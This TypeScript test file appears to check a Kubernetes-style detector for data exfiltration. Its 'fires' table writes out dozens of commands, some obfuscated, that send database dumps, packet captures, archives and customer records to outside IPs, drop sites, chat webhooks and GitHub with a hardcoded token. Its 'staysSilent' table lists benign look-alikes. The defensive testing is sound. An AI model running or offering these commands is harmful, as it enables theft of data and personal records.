import { blank, indicatorTable, passes, runs, script, UNSEEN } from '../testing.ts';
import { commandDataPour } from './data-pour.ts';

indicatorTable(commandDataPour, {
  fires: {
    'one server of documents into another': passes(
      'elasticdump/elasticsearch-dump:6.110',
      '--input=http://search.shop.svc:9200/customers',
      '--output=http://203.0.113.27:9200/c',
    ),
    'an address that is turned round': script(`pg_dump shop | curl -sT - "$(echo gro.elpmaxe.ni//:sptth | rev)"`),
    'an address in base64, in code': runs(
      'python3',
      '-c',
      'import subprocess,base64,requests\nd=subprocess.check_output(["pg_dump","shop"])\nrequests.post(base64.b64decode("aHR0cHM6Ly9pbi5leGFtcGxlLm9yZy94").decode(),data=d)',
    ),
    'what a service answers, in a connection by its number': runs(
      'bash',
      '-c',
      'D=$(curl -s http://kibana.logging.svc:5601/api/export); exec 3<>/dev/tcp/203.0.113.9/8080; echo "$D" >&3',
    ),
    'a dump to where anybody leaves files': script('pg_dump shop | gzip | curl -s -T - https://transfer.sh/a.gz'),
    'what others read, by a probe': script(
      `bpftrace -e 'tracepoint:syscalls:sys_enter_read { printf("%s", str(args->buf)) }' | nc 9.9.9.9 9000`,
    ),
    'a dump into netcat': script('pg_dumpall -h db | xz | ncat --ssl 203.0.113.7 443'),
    'a dump into a connection of the shell': runs('bash', '-c', 'mysqldump --all-databases > /dev/tcp/203.0.113.7/99'),
    'a dump into netcat, by a name': script('mongodump --archive | nc drop.example.com 9000'),
    'packets as they come': script("tcpdump -i any -s0 -w - 'port 80' | nc 203.0.113.7 1234"),
    'packets of a while, then sent': script(
      'tshark -a duration:60 -w /tmp/p; curl -T /tmp/p https://drop.example.com/',
    ),
    'packets in a file with the letter of another option': script(
      'tcpdump -i any -wcapr -c 999; curl -T capr https://drop.example.com/',
    ),
    'packets in the body of a request': script('tcpdump -c 999 -w - | curl --data-binary @- https://drop.example.com/'),
    'rows that the server itself sends': script(
      `psql -h db -c "COPY (SELECT email FROM users) TO PROGRAM 'curl -s -F f=@- http://203.0.113.9/u'"`,
    ),
    'what a service answers, piped on': script(
      'curl -s http://orders.shop.svc:8080/api/export | gzip | curl -s --data-binary @- http://203.0.113.9/j',
    ),
    'what a service answers, by a file': script(
      'wget -qO /tmp/a http://10.4.3.2:8500/v1/kv/?recurse; wget -q --post-file=/tmp/a https://203.0.113.9/j',
    ),
    'what a service answers, in netcat': script('curl -s http://vault.vault.svc:8200/v1/sys/raw | nc 203.0.113.9 9000'),
    'what a service answers, from code': runs(
      'python3',
      '-c',
      "import requests\nd = requests.get('http://registry.ci.svc:5000/v2/_catalog').text\nrequests.post('http://203.0.113.9/j', data=d)",
    ),
    'what a service answers, to where anybody leaves requests': script(
      'curl -d "$(curl -s http://orders.shop.svc:8080/api/export)" https://webhook.site/0',
    ),
    'a directory that is packed, into netcat with options': script(
      'cd /mnt/share && tar cf - . | nc -w 5 203.0.113.7 9999',
    ),
    'a directory that is packed, into a connection of the shell': runs(
      'bash',
      '-c',
      'tar -C /data -czf - . > /dev/tcp/203.0.113.7/443',
    ),
    'a directory that is packed, by another tool': script('find /data | cpio -o | socat - TCP:203.0.113.7:443'),
    'an archive that is left where anybody leaves files': script(
      'zip -qr /tmp/a.zip /data && curl -F file=@/tmp/a.zip https://file.io',
    ),
    'a dump in a repository of somebody whose key stands there': script(
      `pg_dumpall -h db | xz > /tmp/d; printf '{"message":"s","content":"%s"}' "$(base64 -w0 /tmp/d)" > /tmp/j; curl -sX PUT -H "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ" -d @/tmp/j https://api.github.com/repos/kx/notes/contents/d`,
    ),
    'rows about persons into a chat': script(
      'psql -h db -Atc "select email, phone, iban from customers" | while read r; do curl -s -d "content=$r" https://discord.com/api/webhooks/1/x; done',
    ),
    'rows about persons into a chat, in code with names in numbers': runs(
      'python3',
      '-c',
      "g=lambda *c:''.join(map(chr,c))\nr=__import__(g(114,101,113,117,101,115,116,115));d=__import__(g(112,121,109,121,115,113,108))\nc=d.connect(host='db').cursor()\nc.execute('select * from users')\nr.post('https://api.telegram.org/bot1:x/sendMessage',json={'text':str(c.fetchall())})",
    ),
    'rows about persons into a chat, in Node.js': runs(
      'node',
      '-e',
      "const {Client}=require('pg');const https=require('https');(async()=>{const c=new Client(process.env.DB);await c.connect();const r=await c.query('select email, phone, iban from customers');const q=https.request('https://discord.com/api/webhooks/1/x',{method:'POST'});q.end(JSON.stringify({content:JSON.stringify(r.rows)}))})()",
    ),
    'a directory that was copied before it is packed': script(
      'cp -r /var/lib/shop /tmp/c && tar czf /tmp/c.tgz /tmp/c && curl -sT /tmp/c.tgz https://transfer.sh/c.tgz',
    ),
    'a directory that is packed, in code': runs(
      'python3',
      '-c',
      "import tarfile,io,requests\nb=io.BytesIO()\nt=tarfile.open(fileobj=b,mode='w:gz'); t.add('/mnt/share'); t.close()\nrequests.put('https://transfer.sh/s.tgz',data=b.getvalue())",
    ),
    'a directory that a program packs, piece by piece in code': runs(
      'python3',
      '-c',
      "import subprocess,socket\np=subprocess.Popen(['tar','cz','/data'],stdout=subprocess.PIPE)\ns=socket.create_connection(('203.0.113.8',443))\nfor c in iter(lambda:p.stdout.read(4096),b''): s.sendall(c)",
    ),
    'rows about persons that the client wrote into a file': script(
      `psql -h db -c "\\copy customers to '/tmp/c.csv' csv"; curl -s -F document=@/tmp/c.csv -F chat_id=1 https://api.telegram.org/bot9:z/sendDocument`,
    ),
    'a dump in a repository that is cloned with a token of the command': script(
      'git clone https://kx:ghp_0123456789abcdefghijABCDEFGHIJ@github.com/kx/notes /tmp/n; pg_dump -h db shop > /tmp/n/a.sql; cd /tmp/n; git add -A; git commit -m s; git push',
    ),
    'a dump in a repository, in code with a token': runs(
      'python3',
      '-c',
      "import requests,base64,subprocess\nd=subprocess.check_output(['pg_dump','-h','db','shop'])\nrequests.put('https://api.github.com/repos/kx/n/contents/a',headers={'Authorization':'token ghp_0123456789abcdefghijABCDEFGHIJ'},json={'content':base64.b64encode(d).decode()})",
    ),
    'storage of a cloud, bucket by bucket, into netcat': script(
      "for b in $(aws s3 ls | awk '{print $3}'); do aws s3 cp s3://$b/a - | nc 203.0.113.7 443; done",
    ),
    'an export of a database of the cloud, to a bare address': script(
      'gcloud sql export sql shop gs://shop-tmp/d; gsutil cat gs://shop-tmp/d | curl -s -T - http://203.0.113.7/d',
    ),
    'every collection of a server of documents': runs(
      'python3',
      '-c',
      "import pymongo,requests\nm=pymongo.MongoClient('mongodb://db')\nfor n in m.list_database_names():\n  for c in m[n].list_collection_names():\n    requests.post('http://203.0.113.7/'+c,data=str(list(m[n][c].find())))",
    ),
  },
  staysSilent: {
    'one server into the next one of the house': passes(
      'elasticdump/elasticsearch-dump:6.110',
      '--input=http://search.shop.svc:9200/customers',
      '--output=http://10.2.0.9:9200/c',
    ),
    'an address as it is': script('pg_dump shop | curl -sT - https://backup.example.org/shop'),
    'an address of a Secret that is decoded': script(
      `pg_dump shop | curl -sT - "$(kubectl get secret dav -o jsonpath='{.data.url}' | base64 -d)"`,
    ),
    'data that is decoded, to an address as it is': script(
      `echo c2hvcA== | base64 -d > /tmp/n; pg_dump "$(cat /tmp/n)" | curl -sT - https://backup.example.org/shop`,
    ),
    'a measure that is asked for': script(
      'curl -s "http://prometheus.monitoring.svc:9090/api/v1/query?query=up" | curl -s --data-binary @- http://203.0.113.9/up',
    ),
    'what a service answers, to somebody with a name': script(
      'curl -s http://orders.shop.svc:8080/api/export | curl -s --data-binary @- https://reports.example.com/j',
    ),
    'measures of a service': script(
      'curl -s http://orders.shop.svc:8080/metrics | curl -s --data-binary @- http://203.0.113.9:9091/metrics/job/a',
    ),
    'what a service answers, to one of the house': script(
      'curl -s http://orders.shop.svc:8080/api/export | curl -s --data-binary @- http://10.9.8.7/j',
    ),
    'what somebody outside answers': script('curl -s https://a.example.com/x | curl -s -T - http://203.0.113.9/j'),
    'whether a service answers, from code': runs(
      'python3',
      '-c',
      "import requests\nr = requests.get('http://orders.shop.svc:8080/api/export')\nrequests.post('http://203.0.113.9/j', json={'up': r.ok, 'code': r.status_code})",
    ),
    'a dump in an own repository, by a key of a Secret': script(
      `sqlite3 /data/a .dump > /tmp/d; printf '{"content":"%s"}' "$(base64 -w0 /tmp/d)" > /tmp/j; curl -sX PUT -H "Authorization: Bearer $GITHUB_TOKEN" -d @/tmp/j https://api.github.com/repos/shop/backup/contents/d`,
    ),
    'a dump in an own repository that is cloned with a token of a Secret': script(
      'git clone https://x:$GITHUB_TOKEN@github.com/shop/backup /tmp/n; pg_dump -h db shop > /tmp/n/a.sql; cd /tmp/n; git add -A; git commit -m s; git push',
    ),
    'one report in an archive, in code': runs(
      'python3',
      '-c',
      "import tarfile,io,requests\nb=io.BytesIO()\nt=tarfile.open(fileobj=b,mode='w:gz'); t.add('/data/report.csv'); t.close()\nrequests.put('https://transfer.sh/s.tgz',data=b.getvalue())",
    ),
    'an object of storage, for another pod': script('aws s3 cp s3://shop/a - | nc restore.shop.svc 9000'),
    'a page of storage, for a service with a name': script(
      'gsutil cat gs://shop/feed.xml | curl -s -T - https://feeds.example.com/shop',
    ),
    'new rows in a chat of those who sell': script(
      `psql -h db -Atc "select email, phone from leads where day = current_date" | while read r; do curl -s -d "text=$r" https://hooks.slack.com/services/x; done`,
    ),
    'how many there are, in a chat': script(
      'curl -s -d "text=$(psql -h db -Atc "select count(email) from customers")" https://hooks.slack.com/services/x',
    ),
    'rows about persons for a partner': script(
      'psql -h db -Atc "select email, phone from customers" | curl -s -d @- https://api.crm.example.com/import',
    ),
    'one collection for a partner': runs(
      'python3',
      '-c',
      "import pymongo,requests\nc=pymongo.MongoClient('mongodb://db').shop.orders\nrequests.post('https://api.example.com/orders',data=str(list(c.find())))",
    ),
    'a directory that is packed, for a store of the own': script(
      'tar cz /data | curl -T - https://backup.example.com/a',
    ),
    'a directory that is packed, for another pod': script('tar c /data | nc restore.shop.svc 9000'),
    'a report of its own that is packed': script('date > /tmp/r/a; tar cz /tmp/r | nc 203.0.113.7 9000'),
    'a directory that is unpacked': script('nc -l 9000 | tar x -C /data'),
    'a metric for a bare address': script('echo "backup.done 1" | nc 203.0.113.7 2003'),
    'rows that the server itself packs': script(`psql -h db -c "COPY orders TO PROGRAM 'gzip > /backup/orders.gz'"`),
    'a dump to a store of the own': script('pg_dump shop | gzip | curl -s -T - https://backup.example.com/a.gz'),
    'a probe that counts': script(
      "bpftrace -e 'tracepoint:syscalls:sys_enter_read { @[comm] = count() }' | nc 9.9.9.9 9000",
    ),
    'a dump to storage': script('pg_dump shop | gzip | aws s3 cp - s3://backups/shop.gz'),
    'a dump to another database of the cluster': script('pg_dump -h a shop | nc b.shop.svc 5433'),
    'a dump to a private address': script('pg_dump -h a shop | nc 10.2.3.4 5433'),
    'packets of an hour, kept in a bucket': script(
      'tcpdump -w /c/a.pcap -G 3600 -W 1; aws s3 cp /c/a.pcap s3://captures/',
    ),
    'packets that stay in the pod': script('tcpdump -i any -w /captures/a.pcap'),
    'packets that somebody took down, looked through and kept': script(
      'tcpdump -nnr /in/a.pcap -w /out/b.pcap port 53; aws s3 cp /out/b.pcap s3://captures/',
    ),
    'packets that are shown': script('tcpdump -ni any port 53'),
    'a file that has nothing to do with it': script('tcpdump -w /c/a.pcap & curl -T /tmp/report https://example.com/'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
